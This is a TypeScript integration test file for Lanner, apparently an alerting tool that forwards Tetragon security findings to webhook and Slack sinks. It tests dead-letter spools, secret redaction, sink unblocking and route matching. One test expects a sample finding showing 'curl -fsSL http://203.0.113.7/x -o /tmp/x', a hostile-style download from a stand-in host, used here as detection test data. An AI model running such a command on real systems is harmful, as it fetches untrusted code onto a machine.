import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Notice } from '../../src/model/delivery.ts';
import type { Finding } from '../../src/model/finding.ts';
import { aFinding } from '../support/finding.ts';
import { until } from '../support/fixtures.ts';
import { type Bench, openBench } from '../support/lanner.ts';
import { openReceiver, type Receiver } from '../support/receiver.ts';
import { recordedMessages } from '../support/recordings.ts';
import { startAgent } from '../support/tetragon-agent.ts';

let bench: Bench;
beforeEach(() => {
  bench = openBench();
});
afterEach(() => bench.clean());

async function receiver(): Promise<Receiver> {
  const opened = await openReceiver();
  bench.later(opened.close);
  return opened;
}
async function agent(): Promise<string> {
  const messages = recordedMessages('tetragon/scenario-k8s');
  const { address, kill } = await startAgent(`unix://${bench.folder}/tetragon.sock`, {
    onStream: (stream) => {
      for (const message of messages) stream.write(message);
    },
  });
  bench.later(kill);
  return address;
}
async function said(
  args: string[],
  input?: string,
): Promise<{ code: number | null; out: string; err: string }> {
  const run = bench.lanner(args, input);
  const code = await run.code;
  return { code, out: run.out(), err: run.err() };
}

describe('lanner spool', () => {
  it('lists, shows, retries and drops dead letters of a running Lanner, and of a stopped one', async () => {
    const ops = await receiver();
    ops.answer = (_request, response) => response.writeHead(400).end('not like this');
    const config = bench.config(
      `sources: {t: {type: tetragon, address: "${await agent()}"}}\nsinks: {ops: {type: webhook, url: "${ops.url}"}}\n`,
    );
    const run = bench.lanner(['run', '-c', config]);
    const list = async () =>
      JSON.parse((await said(['spool', 'list', '-c', config, '--json', '--limit', '999'])).out) as {
        waiting: { id: string }[];
        dead: { entry: { id: string }; reason: string; detail: string }[];
      };
    await until(() => run.err().includes('"message":"lanner runs"') && ops.received.length >= 20, 'refusals');
    const { dead } = await list();
    expect(dead.length).toBeGreaterThanOrEqual(20);
    expect(dead[0]).toMatchObject({ reason: 'client_error', detail: 'HTTP 400: not like this' });
    const id = dead[0]!.entry.id;
    const shown = await said(['spool', 'show', id, '-c', config]);
    expect(JSON.parse(shown.out)).toMatchObject({
      id,
      sink: 'ops',
      finding: { schema: 'lanner.finding/v1' },
    });

    ops.answer = (_request, response) => response.writeHead(204).end();
    const before = ops.received.length;
    expect((await said(['spool', 'retry', id, '-c', config])).out).toBe('1 wait again\n');
    await until(() => ops.received.length > before, 'the revived one');
    expect(ops.received.at(-1)?.headers['webhook-id']).toBe(id);

    expect((await said(['spool', 'show', 'nobody', '-c', config])).code).toBe(2);
    expect((await said(['spool', 'drop', '-c', config])).code).toBe(2);
    run.child.kill('SIGTERM');
    expect(await run.code).toBe(0);

    const left = (await list()).dead;
    expect(left.length).toBeGreaterThan(0);
    expect(left.map(({ entry }) => entry.id)).not.toContain(id);
    expect((await said(['spool', 'drop', '--all', '--sink', 'other', '-c', config])).out).toBe('0 dropped\n');
    expect((await said(['spool', 'drop', '--all', '-c', config])).out).toBe(`${left.length} dropped\n`);
    expect((await list()).dead).toEqual([]);
  });
});

describe('lanner spool on files that cannot be opened', () => {
  it('says which directory and why', async () => {
    writeFileSync(join(bench.folder, 'state'), 'a file where the directory should be');
    const config = bench.config(
      'sources: {t: {type: tetragon, address: "unix:///none.sock"}}\nsinks: {ops: {type: webhook, url: "http://127.0.0.1:9/"}}\n',
    );
    const { code, err } = await said(['spool', 'list', '-c', config]);
    expect(code).toBe(4);
    expect(err).toContain(`${bench.folder}/state: `);
    expect(err).toContain('[store_unusable]');
  });
});

describe('lanner sink test', () => {
  it('sends a marked finding, shows what was said and heard, and hides secrets', async () => {
    const ops = await receiver();
    ops.answer = (_request, response) => response.writeHead(200, { 'x-answer': 'yes' }).end('{"ok":true}');
    const config = bench.config(
      `sources: {t: {type: tetragon, address: "unix:///none.sock"}}\nsinks: {ops: {type: webhook, url: "${ops.url}", auth: {bearer: very-secret-token}}}\n`,
    );
    const { code, out } = await said(['sink', 'test', 'ops', '-c', config]);
    expect(code).toBe(0);
    expect(JSON.parse(ops.received[0]!.body.toString())).toMatchObject({ test: true });
    expect(ops.received[0]?.headers.authorization).toBe('Bearer very-secret-token');
    expect(out).toContain('> authorization: Bearer ***');
    expect(out).toMatch(/< HTTP 200 after \d+ ms/);
    expect(out).toContain('< x-answer: yes');
    expect(out.trimEnd().split('\n').at(-1)).toBe('delivered');
    expect(out).not.toContain('very-secret-token');
    const forTools = await said(['sink', 'test', 'ops', '-c', config, '--json']);
    expect(forTools.out).not.toContain('very-secret-token');
    expect(JSON.parse(forTools.out)).toMatchObject({
      sink: 'ops',
      outcome: { kind: 'delivered' },
      exchanges: [{ method: 'POST', status: 200, request_headers: { authorization: 'Bearer ***' } }],
    });
  });

  it('shows of a message for people what they are likely to see', async () => {
    const chat = await receiver();
    const config = bench.config(
      `sources: {t: {type: tetragon, address: "unix:///none.sock"}}\nsinks: {chat: {type: slack, url: "${chat.url}"}}\npage_url: "https://lanner.example"\n`,
    );
    const { code, out } = await said(['sink', 'test', 'chat', '-c', config]);
    expect(code).toBe(0);
    const seen = out.slice(out.indexOf('What a person is likely to see:'));
    expect(seen).toContain('\n  🟠 HIGH  TEST: curl in shop/web-7d9f4');
    expect(seen).toContain('\n  Command  curl -fsSL http://203.0.113.7/x -o /tmp/x\n');
    expect(seen).toMatch(
      /\n {2}Open in Lanner: https:\/\/lanner\.example\/findings\/test-\d+\n\ndelivered\n$/,
    );
  });

  it('ends with 1 and the reason when it does not arrive', async () => {
    const ops = await receiver();
    ops.answer = (_request, response) => response.writeHead(403).end();
    const config = bench.config(
      `sources: {t: {type: tetragon, address: "unix:///none.sock"}}\nsinks: {ops: {type: webhook, url: "${ops.url}"}}\n`,
    );
    const { code, out } = await said(['sink', 'test', 'ops', '-c', config]);
    expect(code).toBe(1);
    expect(out).toContain('refused; Lanner would not repeat it as it is: unauthorized (HTTP 403)');
    const wrong = await said(['sink', 'test', 'opps', '-c', config]);
    expect(wrong.code).toBe(2);
    expect(wrong.err).toContain('did you mean ops?');
  });
});

describe('lanner sink unblock', () => {
  it('has a parked sink of the running Lanner asked again at once', async () => {
    const ops = await receiver();
    ops.answer = (_request, response) => response.writeHead(403).end();
    const config = bench.config(
      `sources: {t: {type: tetragon, address: "${await agent()}"}}\nsinks: {ops: {type: webhook, url: "${ops.url}", concurrency: 1}}\n`,
    );
    const idle = await said(['sink', 'unblock', 'ops', '-c', config]);
    expect(idle.code).toBe(4);
    expect(idle.err).toMatch(/no Lanner runs .*\n.*\[socket_missing\]/);

    const run = bench.lanner(['run', '-c', config]);
    await until(() => run.err().includes('sink parked'), 'the refusal');
    ops.answer = (_request, response) => response.writeHead(204).end();
    const before = ops.received.length;
    const { code, out } = await said(['sink', 'unblock', 'ops', '-c', config]);
    expect(code).toBe(0);
    expect(out).toMatch(/^ops was parked \(.*403.*\) and is asked again; \d+ wait\n$/);
    await until(() => ops.received.length > before, 'what was parked');
    expect((await said(['sink', 'unblock', 'ops', '-c', config])).out).toMatch(
      /^ops is not blocked; \d+ wait\n$/,
    );
    const forTools = await said(['sink', 'unblock', 'ops', '-c', config, '--json']);
    expect(JSON.parse(forTools.out)).toMatchObject({ sink: 'ops', state: 'flowing', asked_again: false });
    const wrong = await said(['sink', 'unblock', 'opps', '-c', config]);
    expect(wrong.code).toBe(2);
    expect(wrong.err).toContain('did you mean ops?');
    run.child.kill('SIGTERM');
    expect(await run.code).toBe(0);
  });
});

describe('lanner routes test', () => {
  const routes = (more: string) =>
    bench.config(
      `sources: {t: {type: tetragon, address: "unix:///none.sock"}}
sinks: {ops: {type: webhook, url: "http://127.0.0.1:9/"}, pager: {type: webhook, url: "http://127.0.0.1:9/"}}
route:
  sinks: [ops]
  routes: [{name: prod, match: {namespace: prod, severity: ">=high"}, sinks: [pager]}]
${more}`,
    );

  it('says which way a finding takes and why, and checks it', async () => {
    const file = join(bench.folder, 'finding.json');
    writeFileSync(file, JSON.stringify(aFinding()));
    const config = routes('');
    const other = await said(['routes', 'test', file, '-c', config, '--expect', 'ops']);
    expect(other.code).toBe(0);
    expect(other.out).toContain('route/prod  · does not match: namespace is shop, not prod');
    const prod = ['--set', 'exec.pod.namespace=prod'];
    expect((await said(['routes', 'test', file, '-c', config, ...prod, '--expect', 'pager'])).code).toBe(0);
    const wrong = await said(['routes', 'test', file, '-c', config, ...prod, '--expect', 'ops']);
    expect(wrong.code).toBe(1);
    expect(wrong.out).toContain('✗ expected: ops');
    const forTools = await said(['routes', 'test', file, '-c', config, ...prod, '--expect', 'ops', '--json']);
    expect(forTools.code).toBe(1);
    expect(JSON.parse(forTools.out)).toMatchObject({ sinks: ['pager'], as_expected: false });
    const lines = `${JSON.stringify(aFinding())}\n${JSON.stringify(aFinding({ severity: 'info' }))}\n`;
    const both = await said(['routes', 'test', '-', '-c', config], lines);
    expect(both.out.match(/sinks: .*/g)).toEqual(['sinks: ops', 'sinks: none']);
  });
});

describe('a trouble of Lanner itself', () => {
  it('is told to the sinks when it begins and when it is over', async () => {
    const ops = await receiver();
    const address = `unix://${bench.folder}/tetragon.sock`;
    const config = bench.config(
      `sources: {t: {type: tetragon, address: "${address}"}}\nsinks: {ops: {type: webhook, url: "${ops.url}"}}\nnotices: {after_secs: 0, look_secs: 0.05}\n`,
    );
    const run = bench.lanner(['run', '-c', config]);
    const notices = () =>
      ops.received
        .map(({ body }) => JSON.parse(body.toString()) as Notice | Finding)
        .filter((one): one is Notice => one.schema === 'lanner.notice/v1');
    await until(() => notices().length > 0, 'the beginning');
    expect(notices()[0]).toMatchObject({ kind: 'source_down', state: 'started', subject: 't' });
    await agent();
    await until(() => notices().some((one) => one.state === 'ended'), 'the end');
    expect(notices().at(-1)?.id).toBe(notices()[0]?.id);
    run.child.kill('SIGTERM');
    expect(await run.code).toBe(0);
  });
});
